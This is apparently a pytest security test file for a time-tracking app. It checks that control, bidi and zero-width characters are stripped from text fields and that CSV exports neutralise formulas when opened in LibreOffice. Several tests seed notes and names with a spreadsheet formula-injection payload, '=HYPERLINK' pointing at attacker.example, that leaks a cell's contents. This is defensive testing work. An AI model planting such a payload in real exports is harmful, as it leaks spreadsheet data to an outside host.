"""Item 2: one text sanitiser for every text field at input, and CSV neutralisation after
stripping, proven by opening the export in LibreOffice Calc."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest

from app.extensions import db
from app.models import Client, Project, Task, TimeEntry, User
from app.services.validation import clean_text, strip_unsafe_characters
from tests.conftest import count_rows
from tests.security.libreoffice import open_csv

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1;"click me")'
NASTY = ["\u0000", "\u0007", "\u001b", "\u007f", "\u0085", "\u009b", "\u202e", "\u200b",
         "\ufeff", "\u2066", "\u00ad"]


@pytest.mark.parametrize("char", NASTY)
def test_the_sanitiser_drops_control_bidi_and_zero_width_characters(char):
    assert clean_text(f"{char}a{char}b{char}", "f", max_length=10) == "ab"
    assert clean_text(f"a{char}\tb\r\nc", "f", max_length=10, multiline=True) == "a\tb\nc"
    assert strip_unsafe_characters("a\tb\nc") == "abc"  # single line: no tab or newline


def test_a_lone_surrogate_is_dropped_not_sent_to_the_database():
    assert clean_text("a\ud800b", "f", max_length=10) == "ab"


def _rows(app, model, column):
    with app.app_context():
        return sorted(db.session.scalars(db.select(column)))


def test_every_text_field_is_sanitised_on_web_and_api(ready_app, admin_client, admin_api):
    """Names of clients, projects, tasks, tokens, the display name and notes, both ways in."""
    bad = "\u0000\u202e\u200b"
    r = admin_client.post_form("/clients/new", {"name": f"{bad}Acme{bad}"},
                               token_page="/clients/new")
    assert r.status_code == 302, r.get_data(as_text=True)
    r = admin_api.post("/api/v1/clients", json={"name": f"Globex\u0000{bad}"})
    assert r.status_code == 201 and r.get_json()["name"] == "Globex"
    r = admin_api.post("/api/v1/projects", json={"name": f"\u0085Site\u009b"})
    assert r.status_code == 201 and r.get_json()["name"] == "Site"
    project_id = r.get_json()["id"]
    r = admin_api.post("/api/v1/tasks", json={"project_id": project_id, "name": "De\u0000sign"})
    assert r.status_code == 201 and r.get_json()["name"] == "Design"
    r = admin_client.post_form(f"/projects/{project_id}/tasks",
                               {"task-name": "Bu\u202eild", "task-status": "todo"},
                               token_page=f"/projects/{project_id}")
    assert r.status_code == 302
    r = admin_client.post_form("/profile", {
        "profile-display_name": "Ad\u0000min\u200b", "profile-email": "",
        "profile-timezone": "UTC"}, token_page="/profile")
    assert r.status_code == 302
    r = admin_client.post_form("/profile/tokens", {"name": "ci\u0000\u202e"},
                               token_page="/profile", follow_redirects=True)
    assert r.status_code == 200  # post/redirect/get to the page that shows the secret once
    r = admin_client.post_form("/entries/new", {
        "project_id": project_id, "started_at": "2026-11-02T09:00",
        "ended_at": "2026-11-02T10:00", "notes": f"\u0000{HYPERLINK}"}, token_page="/entries/new")
    assert r.status_code == 302
    r = admin_api.post("/api/v1/time-entries", json={
        "project_id": project_id, "started_at": "2026-11-03T09:00:00",
        "ended_at": "2026-11-03T10:00:00", "notes": f"\u0000{HYPERLINK}\r\nline two\u0007"})
    assert r.status_code == 201, r.get_data(as_text=True)
    assert r.get_json()["notes"] == f"{HYPERLINK}\nline two"
    assert _rows(ready_app, Client, Client.name) == ["Acme", "Globex"]
    assert _rows(ready_app, Project, Project.name) == ["Site"]
    assert _rows(ready_app, Task, Task.name) == ["Build", "Design"]
    assert _rows(ready_app, TimeEntry, TimeEntry.notes) == [HYPERLINK, f"{HYPERLINK}\nline two"]
    with ready_app.app_context():
        admin = db.session.scalar(db.select(User).where(User.username == "admin"))
        assert admin.display_name == "Admin"
        from app.models import ApiToken
        assert "ci" in db.session.scalars(db.select(ApiToken.name)).all()


def test_a_nul_in_the_login_username_is_a_failed_login_not_a_500(ready_app):
    client = ready_app.test_client()
    r = client.post_form("/login", {"username": "ad\u0000min", "password": "nope-nope"},
                         token_page="/login")
    assert r.status_code == 200 and "Invalid username or password." in r.get_data(as_text=True)


def test_libreoffice_shows_the_exported_notes_as_text_not_a_formula(
        ready_app, admin_client, admin_api, make_project, tmp_path):
    """The review's replay: a leading NUL before =HYPERLINK, opened in real LibreOffice."""
    project_id = make_project(name="=Evil", client_name="\u0000@Client")["project_id"]
    for n, notes in enumerate([f"\u0000{HYPERLINK}", f"\u202e{HYPERLINK}", f" {HYPERLINK}",
                               "\u0000=1+2", "plain"]):
        r = admin_api.post("/api/v1/time-entries", json={
            "project_id": project_id, "started_at": f"2026-11-0{n + 2}T09:00:00",
            "ended_at": f"2026-11-0{n + 2}T10:00:00", "notes": notes})
        assert r.status_code == 201
    response = admin_client.get("/reports/export.csv?start=2026-11-01&end=2026-11-30")
    assert response.status_code == 200
    path = tmp_path / "export.csv"
    path.write_bytes(response.get_data())
    header, *rows = open_csv(path, tmp_path)
    notes = [row[[c.text for c in header].index("notes")] for row in rows]
    project = [row[[c.text for c in header].index("project")] for row in rows]
    client = [row[[c.text for c in header].index("client")] for row in rows]
    assert len(notes) == 5
    for cell in notes + project + client:
        assert cell.formula is None, cell
    # The leading space went at input (names and notes are trimmed).
    assert [c.text for c in notes] == ["'" + HYPERLINK] * 3 + ["'=1+2", "plain"]
    assert {c.text for c in project} == {"'=Evil"} and {c.text for c in client} == {"'@Client"}


def test_rows_stored_before_the_sanitiser_are_neutralised_at_export(
        ready_app, admin_client, make_project, db_backend, tmp_path):
    """Characters the sanitiser now refuses, already in the database, are stripped and the
    cell neutralised. PostgreSQL cannot store a NUL in text; a bidi override it can."""
    hidden = "\u0000" if db_backend == "sqlite" else "\u202e\u200b"
    project_id = make_project()["project_id"]
    with ready_app.app_context():
        admin = db.session.scalar(db.select(User).where(User.username == "admin"))
        start = datetime(2026, 11, 2, 9, tzinfo=timezone.utc)
        db.session.add(TimeEntry(user_id=admin.id, project_id=project_id, started_at=start,
                                 ended_at=start.replace(hour=10), duration_seconds=3600,
                                 notes=f"{hidden}{HYPERLINK}", source="manual"))
        db.session.commit()
    assert count_rows(ready_app, TimeEntry) == 1
    path = tmp_path / "old.csv"
    path.write_bytes(admin_client.get("/reports/export.csv?start=2026-11-01&end=2026-11-30")
                     .get_data())
    header, row = open_csv(path, tmp_path)
    cell = row[[c.text for c in header].index("notes")]
    assert cell.formula is None and cell.text == "'" + HYPERLINK


def test_the_length_bound_is_on_what_was_sent_not_on_what_is_left_after_stripping():
    # The API's schema says maxLength 200 of the string sent: 200 letters and one control
    # character must be refused (schemathesis found it accepted), 200 letters accepted.
    from app.services.errors import ValidationError
    from app.services.validation import clean_name

    assert clean_name("a" * 200) == "a" * 200
    with pytest.raises(ValidationError, match="at most 200"):
        clean_name("a" * 199 + "\u0084" + "b")
